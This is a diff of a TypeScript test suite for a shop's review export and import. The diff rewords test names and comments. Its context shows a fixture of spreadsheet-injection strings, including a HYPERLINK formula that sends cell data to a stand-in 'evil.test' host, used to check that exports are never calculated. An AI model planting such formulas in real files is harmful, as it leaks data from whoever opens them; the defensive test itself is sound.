@@ -43,7 +43,7 @@ afterEach(async () => {
   }
 })
 
-/** What a spreadsheet would calculate, and what a careless reader would spoil. */
+/** Texts that a spreadsheet would calculate or a careless reader would change. */
 const nasty = [
   '=1+1',
   '=HYPERLINK("http://evil.test?x="&A1,"ok")',
@@ -201,7 +201,7 @@ const brought = [
   'publishedAt',
 ] as const
 
-/** Whatever must be the same in the new shop, oldest first. */
+/** Returns the columns that an import must preserve, oldest review first. */
 async function reviewsOf(shop: Shop): Promise<Partial<Review>[]> {
   const rows = await client
     .db()
@@ -210,7 +210,7 @@ async function reviewsOf(shop: Shop): Promise<Partial<Review>[]> {
 }
 
 describe.each(['csv', 'xlsx'] as const)('an export as %s', (format) => {
-  test('gives an empty shop the same reviews, replies, flags, origins, media and statuses', async () => {
+  test('gives an empty shop the same reviews with replies, flags, media and statuses', async () => {
     const { ctx } = world
     const at = (minutes: number) => new Date(Date.UTC(2026, 0, 5, 10, minutes, 7, 123))
     const mug = await client.addProduct('mug', '8123456789012')
@@ -387,12 +387,12 @@ describe.each(['csv', 'xlsx'] as const)('an export as %s', (format) => {
       .reviewCount.aggregate({ where: { shopId: world.otherShop.id, source: 'amazon' }, _sum: { count: true } })
     expect(counts._sum.count).toBe(1)
 
-    // Once more, in either shop: nothing is new.
+    // A repeated import in either shop adds nothing.
     for (const token of [world.token, world.otherToken])
       expect(await bring(file, `reviews.${format}`, token)).toMatchObject({ imported: 0, duplicates: nasty.length + 5 })
   }, 60_000)
 
-  test('that was edited is read like any other file', async () => {
+  test('is imported like any other file after an edit', async () => {
     await addReview(world.shop, {
       content: 'Written by a customer',
       verifiedBy: 'merchant',
@@ -426,8 +426,8 @@ describe.each(['csv', 'xlsx'] as const)('an export as %s', (format) => {
   })
 })
 
-/** A sample of the texts; `npm run bench -- R19` tries all. */
-test('no cell of an export is calculated by a spreadsheet, and read again it gives the same texts', async () => {
+/** Checks a sample of the texts; `npm run bench -- R19` checks all. */
+test('spreadsheets calculate no cell of an export and preserve its texts', async () => {
   const { found, missed, caught, tried } = await checkExports(world, { every: 5 })
   expect(found).toEqual([])
   expect(missed).toEqual([])
@@ -435,7 +435,7 @@ test('no cell of an export is calculated by a spreadsheet, and read again it giv
   expect(tried).toBeGreaterThan(10)
 })
 
-test('a workbook written again as separated text, or with other line ends, keeps its signature', async () => {
+test('a workbook saved as CSV with other separators and line ends keeps its signature', async () => {
   await addReview(world.shop, { content: 'Two\nlines; and more', title: 'Tea, hot', pinned: true })
   const rows: string[][] = []
   for await (const { values } of streamXlsxRows(new Uint8Array(await exported('xlsx'))))
@@ -451,8 +451,8 @@ test('a workbook written again as separated text, or with other line ends, keeps
 })
 
 test.each([
-  ['a row less', (lines: string[]) => lines.toSpliced(1, 1)],
-  ['a row twice', (lines: string[]) => lines.toSpliced(1, 0, lines[1] as string)],
+  ['a missing row', (lines: string[]) => lines.toSpliced(1, 1)],
+  ['a repeated row', (lines: string[]) => lines.toSpliced(1, 0, lines[1] as string)],
   ['rows in another order', ([header, a, b, ...rest]: string[]) => [header, b, a, ...rest] as string[]],
   ['a forged signature', (lines: string[]) => lines.map((line) => line.replace(/^(candor-signature:\w)./, '$1_'))],
   [
@@ -468,7 +468,7 @@ test.each([
       ),
   ],
   ['no signature', (lines: string[]) => lines.filter((line) => !line.startsWith('candor-signature'))],
-])('%s: the file counts as unsigned', async (_name, change) => {
+])('a file with %s counts as unsigned', async (_name, change) => {
   for (const content of ['One', 'Two', 'Three']) await addReview(world.shop, { content, pinned: true })
   const lines = (await exported('csv')).toString('utf8').trimEnd().split('\n')
   expect(lines).toHaveLength(5)
@@ -479,7 +479,7 @@ test.each([
   expect(await client.db().review.count({ where: { shopId: world.otherShop.id, pinned: true } })).toBe(0)
 })
 
-describe('who may have a file', () => {
+describe('an export', () => {
   const document = `mutation ($input: StartReviewExportInput!) { startReviewExport(input: $input) { __typename ... on StartReviewExportSuccess { data { id status format fileName } }
     ... on NotAllowedError { code } ... on InvalidInputError { code } } }`
   const fetchIt =
@@ -497,7 +497,7 @@ describe('who may have a file', () => {
       data: { url: string }
     }
 
-  test('one at a time, with its progress, through GraphQL', async () => {
+  test('runs one at a time and shows its progress over GraphQL', async () => {
     await addReview(world.shop, { content: 'A', rate: 2 })
     await addReview(world.shop, { content: 'B' })
     await addReview(world.shop, { content: 'C', status: 'deleted' })
@@ -543,7 +543,7 @@ describe('who may have a file', () => {
     })
   })
 
-  test('its address opens once, for five minutes, and names no other shop’s file', async () => {
+  test('has a download link that opens once and never for another shop', async () => {
     await addReview(world.shop, { content: 'Secret' })
     const {
       data: { id },
@@ -573,7 +573,7 @@ describe('who may have a file', () => {
     expect((await download(`/reviews/exports/${own}`)).statusCode).toBe(404)
   })
 
-  test('its address is used up only when it opens, and opens once of two requests at once', async () => {
+  test('uses up its link only by a successful download, once for concurrent requests', async () => {
     const { id } = await startReviewExport(world.ctx, { format: 'csv' })
     await world.runJobs()
     const { downloadUrl } = (await world.rest('GET', `/reviews/export/${id}`)).json<{ data: { downloadUrl: string } }>()
@@ -591,7 +591,7 @@ describe('who may have a file', () => {
     expect([late.statusCode, late.json<{ code: string }>().code]).toEqual([404, 'linkExpired'])
   })
 
-  test('is followed by a subscription until it has ended', async () => {
+  test('is reported by a subscription until it ends', async () => {
     await world.ctx.db.$executeRaw`
       insert into "Review" ("shopId", id, rate, content, status, origin, source, "createdAt", "enteredAt", "updatedAt")
       select ${world.shop.id}::uuid, gen_random_uuid(), 5, 'Text ' || n, 'published', 'guest', 'guest', now(), now(), now() from generate_series(1, 2500) n`
@@ -609,7 +609,7 @@ describe('who may have a file', () => {
     ).rejects.toMatchObject({ code: 'notFound' })
   })
 
-  test('refuses what is no format or filter', async () => {
+  test('is refused with an invalid format or filter', async () => {
     for (const body of [
       {},
       { format: 'pdf' },
@@ -637,7 +637,7 @@ describe('who may have a file', () => {
     expect(await link(id)).toEqual({ __typename: 'NotFoundError', code: 'exportGone' })
   })
 
-  test('a store that fails fails the export, and another may be started', async () => {
+  test('fails if the file store fails, and another one may be started', async () => {
     await addReview(world.shop, { content: 'A' })
     const { id } = await world.ctx.db.reviewExport.create({
       data: {
@@ -661,7 +661,7 @@ describe('who may have a file', () => {
   })
 })
 
-test('every plan may bring all its reviews back; an edited file is held to the plan', async () => {
+test('an export is imported whole on each plan; an edited one has the plan’s limit', async () => {
   const rows = plans.free.maxImportRows + 20
   await world.ctx.db.$executeRaw`
     insert into "Review" ("shopId", id, rate, content, status, origin, source, "createdAt", "enteredAt", "updatedAt")
